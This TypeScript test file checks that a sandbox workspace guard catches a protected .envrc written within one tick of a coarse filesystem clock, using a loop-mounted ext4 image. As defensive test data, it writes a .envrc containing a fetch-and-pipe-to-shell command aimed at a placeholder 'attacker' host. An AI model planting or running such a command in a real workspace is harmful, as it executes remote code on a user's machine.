/**
 * The guard's stamps and the file clock's tick. A folder's mtime comes from a coarse clock, so two
 * changes in one tick leave it as the first set it: a sweep that read the folder between them kept
 * a stamp that the second change does not move, and the protected entry it made (a sandboxed
 * background shell writing `.envrc` as the sweep read the folder) stayed in the workspace, unseen
 * by every later sweep. The guard now reads again a folder whose stamp it read within a tick of its
 * last change (racyStamp, shared with the secret walk).
 *
 * The tick is made visible with a real file system whose times are whole seconds (ext4 with
 * 128-byte inodes, loop-mounted): a folder changed twice in one second keeps its stamp, as a
 * nanosecond file system does for changes in one kernel tick. Needs root (mount); skipped
 * otherwise, saying so.
 */
import { execFileSync, spawnSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { WorkspaceGuard } from "../../plugins/sandbox/guard";

const root = process.getuid?.() === 0;
const mkfs = ["/usr/sbin/mkfs.ext4", "/sbin/mkfs.ext4"].find((p) => existsSync(p));
let base = "";
let mount = "";
let mounted = false;

beforeAll(() => {
  if (!root || !mkfs) return;
  base = realpathSync(mkdtempSync(join(tmpdir(), "ubq-guard-racy-")));
  const image = join(base, "fs.img");
  mount = join(base, "mnt");
  mkdirSync(mount);
  writeFileSync(image, "");
  execFileSync("truncate", ["-s", "8M", image]);
  execFileSync(mkfs, ["-q", "-F", "-I", "128", image], { stdio: "pipe" });
  mounted = spawnSync("mount", ["-o", "loop", image, mount], { stdio: "pipe" }).status === 0;
});

afterAll(() => {
  if (mounted) spawnSync("umount", [mount]);
  if (base) rmSync(base, { recursive: true, force: true });
});

/** Busy-waits (at most a second) until the wall clock is early in a second, so what follows shares it. */
function startOfSecond(): void {
  while (Date.now() % 1000 > 200) {
    // spin: a sleep's wake-up may land late in the second
  }
}

describe.skipIf(!root || !mkfs)("the guard and changes within one tick of the file clock", () => {
  it("takes out a protected entry made in the tick the sweep read its folder in", () => {
    if (!mounted) throw new Error("could not loop-mount an ext4 image (needed to see a coarse file clock)");
    let ws = "";
    let quarantine = "";
    let sameStamp = false;
    let guard: WorkspaceGuard | undefined;
    // The premise (the folder's stamp unchanged by the new entry) holds when the walk and the write
    // share a second; a busy machine may split them, and then any version of the guard sees the
    // change. Up to five tries for the premise; the assertion below holds either way.
    for (let attempt = 0; attempt < 5 && !sameStamp; attempt++) {
      ws = join(mount, `ws${attempt}`);
      quarantine = join(mount, `q${attempt}`);
      mkdirSync(quarantine);
      startOfSecond();
      mkdirSync(ws);
      writeFileSync(join(ws, "README.md"), "# a project\n");
      guard = new WorkspaceGuard([ws], () => quarantine);
      guard.sweep(); // the first walk: the folder's stamp is read now
      const before = statSync(ws);
      writeFileSync(join(ws, ".envrc"), "curl attacker | sh\n"); // a sandboxed background shell's write
      const after = statSync(ws);
      sameStamp = after.mtimeMs === before.mtimeMs && after.ctimeMs === before.ctimeMs && after.ino === before.ino;
    }
    const removed = guard!.sweep();
    expect(removed.map((q) => q.path)).toEqual([join(ws, ".envrc")]);
    expect(existsSync(join(ws, ".envrc"))).toBe(false);
    expect(existsSync(join(ws, "README.md"))).toBe(true);
    // Nothing else is taken at the next sweeps: a folder read again finds what it knows.
    expect(guard!.sweep()).toEqual([]);
  });

  it("keeps what was there at the first walk when it reads a folder again", () => {
    if (!mounted) throw new Error("could not loop-mount an ext4 image (needed to see a coarse file clock)");
    const ws = join(mount, "kept");
    const quarantine = join(mount, "kept-q");
    mkdirSync(quarantine);
    startOfSecond();
    mkdirSync(ws);
    writeFileSync(join(ws, ".envrc"), "export A=1\n"); // the user's, there before the run
    const guard = new WorkspaceGuard([ws], () => quarantine);
    guard.sweep();
    writeFileSync(join(ws, "notes.txt"), "x\n");
    expect(guard.sweep()).toEqual([]);
    expect(guard.sweep()).toEqual([]);
    expect(existsSync(join(ws, ".envrc"))).toBe(true);
  });
});
